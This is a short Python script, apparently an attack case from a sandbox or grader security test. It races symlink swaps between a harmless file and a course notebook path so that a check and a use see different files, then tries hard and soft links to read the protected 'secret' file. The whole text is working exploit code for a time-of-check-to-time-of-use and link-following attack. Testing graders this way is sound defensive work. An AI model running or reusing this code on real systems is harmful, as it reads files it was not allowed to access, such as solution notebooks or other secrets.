# tries: read through links, exchanged between check and use
# place: first
# works: secret
import os, threading
target = "@COURSE@/source/ps1/notebook.ipynb"
open("harmless", "w").write("harmless")
def swap():
    for _ in range(300):
        for goal in (target, "harmless"):
            os.symlink(goal, "new"); os.replace("new", "in.txt")
thread = threading.Thread(target=swap); thread.start(); thread.join(0.01)
while thread.is_alive():
    try: print(open("in.txt").read())
    except OSError: pass
for act in (lambda: os.link(target, "hard"), lambda: os.symlink(target, "soft")):
    try: act()
    except OSError: pass
for name in ("hard", "soft"):
    try: print(open(name).read())
    except OSError: pass
